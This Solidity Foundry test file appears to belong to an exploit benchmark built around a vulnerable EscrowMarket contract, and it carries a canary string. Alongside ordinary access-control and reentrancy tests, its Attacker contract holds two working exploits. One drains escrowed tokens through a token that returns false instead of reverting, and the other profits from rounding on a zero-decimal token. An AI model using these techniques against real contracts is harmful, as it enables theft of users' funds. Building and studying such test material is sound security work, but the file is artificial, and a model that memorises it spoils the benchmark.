// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./EscrowMarket.sol";

// assay-canary-0737eb66-9f78-4c1f-a084-6458b275c468

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Usdc is ERC20("USD Coin", "USDC") {
    address private minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

/// An older token: it never reverts, its answers tell whether tokens have moved.
contract ElderToken {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (balanceOf[msg.sender] < amount) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (balanceOf[from] < amount || allowance[from][msg.sender] < amount) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Bars of metal, which nobody divides.
contract Bars is ERC20("Bars", "BAR") {
    function decimals() public pure override returns (uint8) {
        return 0;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    address internal constant CAT = address(0xCA7);
    address internal constant TREASURY = address(0x73EA);

    ElderToken internal elder;
    Usdc internal usdc;
    Bars internal bars;
    EscrowMarket internal market;
    Attacker internal mallory;

    function setUp() public {
        elder = new ElderToken();
        usdc = new Usdc();
        market = new EscrowMarket(address(this), TREASURY);
        market.setListed(IERC20(address(elder)), true);
        market.setListed(usdc, true);
        elder.mint(ANA, 100_000e18);
        usdc.mint(BEN, 50_000e18);
        usdc.mint(CAT, 1_000e18);
        vm.startPrank(ANA);
        elder.approve(address(market), 100_000e18);
        market.create(IERC20(address(elder)), usdc, 80_000e18, 40_000e18, block.timestamp + 7 days);
        vm.stopPrank();
        vm.prank(BEN);
        usdc.approve(address(market), 50_000e18);
        bars = new Bars();
        market.setListed(bars, true);
        vm.startPrank(CAT);
        usdc.approve(address(market), 1_000e18);
        market.create(usdc, bars, 1_000e18, 10, block.timestamp + 7 days);
        vm.stopPrank();
        mallory = new Attacker(market, IERC20(address(elder)), usdc);
    }

    function test_Regular() public {
        vm.prank(BEN);
        require(market.fill(0, 20_000e18) == 10_000e18, "half a dollar each");
        require(elder.balanceOf(BEN) == 20_000e18 && usdc.balanceOf(BEN) == 40_000e18, "bought");
        require(market.proceedsOf(TREASURY, usdc) == 25e18, "a quarter of a per cent");
        vm.startPrank(ANA);
        require(market.withdraw(usdc) == 9_975e18 && usdc.balanceOf(ANA) == 9_975e18, "earned");
        market.cancel(0);
        require(elder.balanceOf(ANA) == 80_000e18, "returned");
        vm.stopPrank();

        vm.startPrank(BEN);
        elder.approve(address(market), 1_000e18);
        require(market.create(usdc, IERC20(address(elder)), 300e18, 600e18, block.timestamp + 1) == 2, "numbers");
        vm.stopPrank();
        vm.startPrank(ANA);
        elder.approve(address(market), 600e18);
        require(market.fill(2, 300e18) == 600e18, "all of it");
        vm.stopPrank();
        require(market.proceedsOf(BEN, IERC20(address(elder))) == 598.5e18, "less the fee");
        require(elder.balanceOf(address(market)) == 600e18 && usdc.balanceOf(address(market)) == 1_025e18, "in the pot");

        PlainToken plain = new PlainToken();
        market.setListed(IERC20(address(plain)), true);
        plain.transfer(BEN, 5e18);
        vm.startPrank(BEN);
        require(market.create(IERC20(address(plain)), usdc, 3e18, 1, block.timestamp + 1) == 3, "numbers");
        market.cancel(3);
        vm.stopPrank();
        require(plain.balanceOf(BEN) == 5e18, "there and back");

        bytes32 role = market.LISTING_ROLE();
        market.setListed(usdc, false);
        market.grantRole(role, ANA);
        market.revokeRole(role, ANA);
        market.renounceRole(role, address(this));
    }

    function test_RefusesStrangers() public {
        bytes32 role = market.LISTING_ROLE();
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, BEN, role));
        market.setListed(usdc, false);
        vm.expectRevert("EscrowMarket: not the maker");
        market.cancel(0);
        vm.expectRevert("EscrowMarket: nothing to withdraw");
        market.withdraw(usdc);
        vm.stopPrank();
        vm.startPrank(ANA);
        market.cancel(0);
        vm.expectRevert("EscrowMarket: nothing left");
        market.cancel(0);
        vm.stopPrank();
    }

    function test_RefusesOrders() public {
        IERC20 old = IERC20(address(elder));
        market.setListed(usdc, false);
        vm.startPrank(BEN);
        vm.expectRevert("EscrowMarket: not listed");
        market.create(usdc, old, 1, 1, block.timestamp + 1);
        vm.expectRevert("EscrowMarket: not listed");
        market.create(old, usdc, 1, 1, block.timestamp + 1);
        vm.stopPrank();
        market.setListed(usdc, true);
        vm.startPrank(BEN);
        vm.expectRevert("EscrowMarket: zero amount");
        market.create(usdc, old, 0, 1, block.timestamp + 1);
        vm.expectRevert("EscrowMarket: zero amount");
        market.create(usdc, old, 1, 0, block.timestamp + 1);
        vm.expectRevert("EscrowMarket: expired");
        market.create(usdc, old, 1, 1, block.timestamp);
        vm.expectRevert();
        market.create(usdc, old, 50_000e18 + 1, 1, block.timestamp + 1);
        vm.stopPrank();
    }

    function test_RefusesFills() public {
        vm.startPrank(BEN);
        vm.expectRevert("EscrowMarket: bad amount");
        market.fill(0, 0);
        vm.expectRevert("EscrowMarket: bad amount");
        market.fill(0, 80_000e18 + 1);
        vm.warp(block.timestamp + 7 days);
        vm.expectRevert("EscrowMarket: expired");
        market.fill(0, 1);
        vm.stopPrank();
    }

    /// A token that reverts, and one that answers with something else than a bool.
    function test_RefusesFailedTransfers() public {
        Odd odd = new Odd();
        market.setListed(IERC20(address(odd)), true);
        vm.expectRevert();
        market.create(IERC20(address(odd)), usdc, 1, 1, block.timestamp + 1);
        vm.expectRevert();
        market.create(usdc, IERC20(address(odd)), 1, 1, block.timestamp + 1);
        Mute mute = new Mute();
        market.setListed(IERC20(address(mute)), true);
        vm.expectRevert();
        market.create(IERC20(address(mute)), usdc, 1, 1, block.timestamp + 1);
    }

    function test_RefusesReentry() public {
        Hook hook = new Hook(market);
        market.setListed(IERC20(address(hook)), true);
        hook.run();
        require(hook.refusals() == 4, "locked");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(elder.balanceOf(address(mallory)) >= 80_000e18, "nothing gained");
    }

    function exploit2() public {
        mallory.nibble(1);
    }

    function test_Exploit2() public {
        exploit2();
        require(usdc.balanceOf(address(mallory)) >= 990e18, "nothing gained");
    }

    function dollars() public view returns (address) {
        return address(usdc);
    }

    function asset() public view returns (address) {
        return address(elder);
    }

    function target() public view returns (address) {
        return address(market);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

/// A token that is also a maker and a taker, and comes back when it is asked to move.
contract Hook {
    EscrowMarket internal market;
    IERC20 internal self = IERC20(address(this));
    bool internal armed;
    uint256 public refusals;

    constructor(EscrowMarket market_) {
        market = market_;
    }

    function run() external {
        uint256 id = market.create(self, self, 10, 10, block.timestamp + 1);
        market.fill(id, 5);
        armed = true;
        market.create(self, self, 10, 10, block.timestamp + 1);
    }

    function transfer(address, uint256) external pure returns (bool) {
        return true;
    }

    function transferFrom(address, address, uint256) external returns (bool) {
        if (armed) {
            armed = false;
            attempt(abi.encodeCall(market.create, (self, self, 10, 10, block.timestamp + 1)));
            attempt(abi.encodeCall(market.fill, (1, 1)));
            attempt(abi.encodeCall(market.cancel, (1)));
            attempt(abi.encodeCall(market.withdraw, (self)));
        }
        return true;
    }

    function attempt(bytes memory data) internal {
        (bool done, bytes memory reason) = address(market).call(data);
        if (!done && bytes4(reason) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector) refusals++;
    }
}

contract Mute {}

/// Returns nothing, and reverts when it fails.
contract PlainToken {
    mapping(address => uint256) public balanceOf;

    constructor() {
        balanceOf[msg.sender] = 5e18;
    }

    function transfer(address to, uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
    }

    // everybody trusts everybody
    function transferFrom(address from, address to, uint256 amount) external {
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
    }
}

contract Odd {
    function transferFrom(address, address, uint256) external pure returns (uint8) {
        assembly {
            return(0, 7)
        }
    }
}

contract Attacker {
    EscrowMarket internal market;
    IERC20 internal token;
    IERC20 internal other;

    constructor(EscrowMarket market_, IERC20 token_, IERC20 other_) {
        market = market_;
        token = token_;
        other = other_;
    }

    // a bar is the price of 100, so 99 are free
    function nibble(uint256 id) external {
        for (uint256 i = 0; i < 10; i++) market.fill(id, 99e18);
    }

    function run() external {
        uint256 amount = token.balanceOf(address(market));
        uint256 id = market.create(token, other, amount, amount, block.timestamp + 1);
        market.cancel(id);
    }
}
